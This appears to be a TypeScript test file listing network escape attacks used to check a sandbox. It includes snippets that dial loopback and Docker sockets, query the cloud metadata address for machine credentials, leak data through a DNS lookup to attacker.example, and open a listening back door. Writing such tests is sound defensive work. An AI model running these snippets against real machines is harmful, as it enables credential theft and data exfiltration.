import { once } from 'node:events'
import { connect } from 'node:net'
import type { Attack } from './attack.ts'

const dial = (to: string) => `
  net.connect(${to}).on('connect', () => console.log('GOT a connection')).on('data', (data) => { console.log('GOT ' + data); process.exit() }).on('error', refused)
  setTimeout(() => process.exit(), 2000).unref()`

const gotAnswer: NonNullable<Attack['succeeded']> = ({ stdout }, { secret }) => stdout.includes(secret)
const NO_ROUTE = /REFUSED (ECONNREFUSED|ENETUNREACH|ENOENT|EADDRNOTAVAIL)/

/** Attacks that try to reach others. */
export const NETWORK_ATTACKS: readonly Attack[] = [
  {
    name: "dials a port of the machine's loopback",
    program: ({ tcpPort }) => dial(`{ port: ${tcpPort}, host: '127.0.0.1' }`),
    succeeded: gotAnswer,
    stoppedBy: NO_ROUTE,
  },
  {
    name: 'dials a socket in a file, such as that of Docker',
    program: ({ socket }) => dial(`{ path: '${socket}' }`),
    succeeded: gotAnswer,
    stoppedBy: NO_ROUTE,
  },
  {
    name: 'dials an abstract socket, which has no file',
    program: ({ abstractSocket }) => dial(`{ path: ${JSON.stringify(abstractSocket)} }`),
    succeeded: gotAnswer,
    stoppedBy: NO_ROUTE,
  },
  {
    name: 'asks the cloud for the credentials of the machine',
    // The real address only where there is no network; on loopback a stand-in answers.
    program: ({ tcpPort }, { tier }) =>
      dial(
        tier === 'none' ? `{ port: ${tcpPort}, host: '127.0.0.1' }` : `{ port: 80, host: '169.254.169.254' }`,
      ),
    succeeded: gotAnswer,
    stoppedBy: /REFUSED ENETUNREACH/,
  },
  {
    name: 'carries data out by asking a name server',
    program: ({ udpPort }) => `
      const resolver = new (require('node:dns').Resolver)({ timeout: 150, tries: 1 })
      resolver.setServers(['127.0.0.1:${udpPort}'])
      resolver.resolve4('all-that-it-knows.attacker.example', () => { console.log('REFUSED no answer'); process.exit() })`,
    succeeded: (_result, { datagrams }) => datagrams.some((letter) => letter.includes('all-that-it-knows')),
    stoppedBy: /REFUSED no answer/,
  },
  {
    name: 'sends a datagram to the machine',
    program: ({ udpPort }) => `
      const socket = require('node:dgram').createSocket('udp4')
      socket.send('carried out', ${udpPort}, '127.0.0.1', () => setTimeout(() => { console.log('REFUSED sent to nobody'); process.exit() }, 100))`,
    succeeded: (_result, { datagrams }) => datagrams.includes('carried out'),
    stoppedBy: /REFUSED sent to nobody/,
  },
  {
    name: 'opens a back door to the outside',
    program: () => `
      net.createServer((socket) => socket.end('inside')).listen(0, '127.0.0.1', function () { fs.writeSync(3, this.address().port + '\\n'); console.log('OPEN') })
      setTimeout(() => process.exit(), 300)`,
    accomplice: async (line) => knock(Number(line)),
    succeeded: ({ outside }) => outside,
    stoppedBy: /OPEN/,
  },
]

/** Knocks at a port of this machine. */
async function knock(port: number): Promise<boolean> {
  const socket = connect({ port, host: '127.0.0.1' })
  try {
    await once(socket, 'connect')
    return true
  } catch {
    return false
  } finally {
    socket.destroy()
  }
}
